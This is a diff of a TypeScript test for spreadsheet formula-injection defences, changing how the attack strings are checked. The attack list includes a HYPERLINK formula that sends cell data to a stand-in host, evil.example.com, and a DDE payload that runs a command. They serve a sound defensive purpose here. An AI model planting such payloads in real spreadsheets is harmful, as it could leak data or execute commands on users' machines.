@@ -5,6 +5,7 @@ import { isFormulaText } from '#domain/workbook/formula-text.ts'
 import { parseZipDirectory } from '#domain/workbook/zip-directory.ts'
 import { readWorkbook, type WorkbookContent, createWorkbookStream } from '#features/workbook/service.ts'
 import { PAYLOADS } from '#tests/support/hostile/payloads.ts'
+import { findOffenders } from '#tests/support/offenders.ts'
 
 const writeBytes = async (content: Partial<WorkbookContent>) =>
   new Uint8Array(
@@ -91,19 +92,22 @@ describe('formula injection', () => {
     '=HYPERLINK("https://evil.example.com?x="&A1,"点击")',
     "=cmd|' /C calc'!A0",
   ]
-  it.each(attacks)('%j is a text cell without a formula, quoted', async (text) => {
-    expect(isFormulaText(text)).toBe(true)
-    const bytes = await writeBytes({ columns: [{ header: text }], rows: [[text]] })
-    const { cells } = parsed(bytes)
-    for (const row of cells) {
-      expect(row[0]).toMatchObject({ t: 's', v: text, z: '@' })
-      expect(row[0]).not.toHaveProperty('f')
-    }
-    const xml = Buffer.from(
-      XLSX.CFB.find(XLSX.CFB.read(bytes, { type: 'array' }), 'sheet1.xml')?.content ?? [],
-    ).toString()
-    expect(xml).toMatch(/<c r="A2" s="2" t="inlineStr">/)
-    expect(xml).not.toContain('<f>')
+  it('each attack is a text cell without a formula, quoted', async () => {
+    const offenders = await findOffenders(attacks)(async (text) => {
+      expect(isFormulaText(text)).toBe(true)
+      const bytes = await writeBytes({ columns: [{ header: text }], rows: [[text]] })
+      const { cells } = parsed(bytes)
+      for (const row of cells) {
+        expect(row[0]).toMatchObject({ t: 's', v: text, z: '@' })
+        expect(row[0]).not.toHaveProperty('f')
+      }
+      const xml = Buffer.from(
+        XLSX.CFB.find(XLSX.CFB.read(bytes, { type: 'array' }), 'sheet1.xml')?.content ?? [],
+      ).toString()
+      expect(xml).toMatch(/<c r="A2" s="2" t="inlineStr">/)
+      expect(xml).not.toContain('<f>')
+    })
+    expect(offenders).toEqual([])
   })
   it.each(['张三', '1=1', 'a@b.cn', 'a-b', '（=）'])('%j is plain text', (text) => {
     expect(isFormulaText(text)).toBe(false)
